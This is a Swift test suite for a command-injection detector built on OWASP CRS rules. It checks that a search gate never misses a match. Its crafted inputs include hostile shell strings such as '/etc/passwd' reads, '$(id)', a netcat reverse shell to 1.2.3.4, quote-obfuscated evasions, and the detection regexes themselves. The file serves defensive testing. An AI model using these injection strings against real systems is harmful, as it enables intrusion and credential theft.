@testable import PalisadeDetect
import PalisadeJSON
import Testing

/// `CRSCommandStart` must never hide a match: the four command rules keep the pattern shape it
/// reasons about, and on every corpus input (and on crafted ones) the gated search finds exactly
/// what the full search finds.
@Suite struct CRSCommandStartTests {
    /// The evasion the patterns put between the letters of a prefix word.
    static let evasion = #"[\"'\)\[\x5c]*(?:(?:(?:\|\||&&)[\s\x0b]*)?\$[!#\(\*\-0-9\?@_a-\{]*)?\x5c?"#
    /// The start alternatives with the evasion removed: a prefix word, a separator, or (first) the start.
    static let words = #"busybox|(?:command|e(?:nv|val)|watch)[\"']?[\s\x0b&\),<>\|].*|[ls]trace|nohup|time(?:[\"']?[\s\x0b&\),<>\|].*|out)|"#
    static let separators = #"[\n\r;=`\{]|\|\|?|&&?|"#
    static let expressions = #"\$(?:\(\(?|[\[\{])|<(?:\(|<<)|>\(|\([\s\x0b]*\))"#

    static var rules: [CRSRule] {
        CRSRulePack.shared.rules.filter { CRSCommandStart.rules[$0.id] != nil }
    }

    @Test func patternsBeginWithTheStartAlternativesTheGateKnows() throws {
        #expect(Self.rules.count == CRSCommandStart.rules.count)
        for rule in Self.rules {
            let pattern = try #require(rule.condition.regex?.pattern)
            let hasStart = try #require(rule.commandStart)
            #expect(hasStart == CRSCommandStart.rules[rule.id])
            #expect(rule.chain.isEmpty && rule.transforms.bits == 0)
            let stripped = pattern.replacingAll(Self.evasion, with: "")
            let expected = hasStart
                ? "(?i)(?:^(?:json\\.|\\x5c)?|" + Self.words + Self.separators + Self.expressions
                : "(?i)(?:" + Self.words + Self.separators + "^\\x5c|" + Self.expressions
            #expect(stripped.hasPrefix(expected), "crs.\(rule.id) starts differently: \(stripped.prefix(240))")
            // The start group is the pattern's first element and is not optional; nothing outside it offers another start.
            #expect(Self.topLevelAlternations(in: String(pattern.dropFirst(4))) == 0, "crs.\(rule.id)")
            #expect(!stripped.dropFirst(expected.count).hasPrefix("?") && !stripped.dropFirst(expected.count).hasPrefix("*"))
            #expect(!pattern.contains("\\x{"), "crs.\(rule.id) would compile in UTF mode, where case folding reaches beyond ASCII")
            #expect(rule.anchoredCondition?.compiled != nil)
        }
    }

    @Test func gatedSearchAgreesWithTheFullSearchOnTheCorpus() throws {
        let corpus = try Fixture.bytes("crs/crs-regression.jsonl")
        var values: [[UInt8]] = []
        for line in corpus.split(separator: 0x0A) {
            let record = try PalisadeJSON.JSONDocument(bytes: Array(line)).root
            for input in record["inputs"].map({ Array($0.elements) }) ?? [] {
                if let value = input["value"]?.string { values.append(Array(value.utf8)) }
            }
        }
        let crafted = [
            "ls -la", "email", "env", "uname -a", "json.ls -la", "\\ls", "\\\\cat /etc/passwd", "/bin/cat /etc/passwd",
            "x;cat /etc/passwd", "x|id", "a && whoami", "$(id)", "`id`", "a\nnc -e /bin/sh 1.2.3.4 4444",
            "busybox wget http://x/y", "b'u's'y'b'o'x ls", "c\"o\"mmand cat x", "e\\v\\al cat x", "time curl x",
            "timeout 5 nc x 1", "nohupcat x", "strace ls", "ENV cat /etc/passwd", "Please deliver after 5pm.",
            "12 Rue de l'Église, Apt. #4", "+353 (1) 555-0142", "wa)t[ch ls", "  ! ls -la", "..//..//usr/bin/id",
            "ring twice; if nobody answers", "web; Safari 18.1 / macOS 14.6", "cat", "python3 -c x", "tac /etc/passwd",
        ].map { Array($0.utf8) }
        let scratch = MatchScratch()
        var skipped = 0, candidates = 0, matchedAtCandidates = 0
        for value in values + crafted {
            let input = ScanInput(value)
            for rule in Self.rules {
                let search = CRSCommandStart.search(input, hasStartAlternative: rule.commandStart ?? false)
                guard search != .everywhere else { continue }
                let full = rule.condition.match(input.bytes, scratch: scratch)
                if search == .nowhere { skipped += 1 } else { candidates += 1 }
                if full != nil, search != .nowhere { matchedAtCandidates += 1 }
                #expect(rule.firstMatch(in: input.bytes, scratch: scratch, search: search) == full, "crs.\(rule.id) on \(String(decoding: value, as: UTF8.self)) (\(search))")
            }
        }
        #expect(skipped > 1000)
        #expect(candidates > 1000)
        #expect(matchedAtCandidates > 100)
    }

    @Test func searchKinds() {
        func search(_ text: String, start: Bool) -> CRSCommandStart.Search {
            CRSCommandStart.search(ScanInput(Array(text.utf8)), hasStartAlternative: start)
        }
        #expect(search("email", start: true) == .candidates(start: true))
        #expect(search("email", start: false) == .nowhere)
        #expect(search("\\ls", start: false) == .candidates(start: true))
        #expect(search("x;ls", start: false) == .candidates(start: false))
        #expect(search("x;ls", start: true) == .candidates(start: true))
        #expect(search("x$IFS", start: true) == .everywhere)
        #expect(search("c'o'mm\\and ls", start: false) == .everywhere)
        #expect(search("Time to go", start: false) == .everywhere)
        #expect(search(String(repeating: "a=1&", count: 20), start: false) == .everywhere)
    }

    /// `|` at the pattern's top level (outside groups and classes), which would offer another place to start.
    static func topLevelAlternations(in pattern: String) -> Int {
        let bytes = Array(pattern.utf8)
        var depth = 0, index = 0, inClass = false, count = 0
        while index < bytes.count {
            let byte = bytes[index]
            if byte == UInt8(ascii: "\\") { index += 2; continue }
            if inClass {
                if byte == UInt8(ascii: "]") { inClass = false }
            } else if byte == UInt8(ascii: "[") {
                inClass = true
                if index + 1 < bytes.count, bytes[index + 1] == UInt8(ascii: "]") { index += 1 }
            } else if byte == UInt8(ascii: "(") {
                depth += 1
            } else if byte == UInt8(ascii: ")") {
                depth -= 1
            } else if byte == UInt8(ascii: "|"), depth == 0 {
                count += 1
            }
            index += 1
        }
        return count
    }
}

private extension String {
    func replacingAll(_ target: String, with replacement: String) -> String {
        let bytes = Array(utf8), needle = Array(target.utf8)
        var result: [UInt8] = []
        var from = 0
        while let at = ByteScan.find(needle, in: bytes, from: from) {
            result += bytes[from..<at] + Array(replacement.utf8)
            from = at + needle.count
        }
        return String(decoding: result + bytes[from...], as: UTF8.self)
    }
}
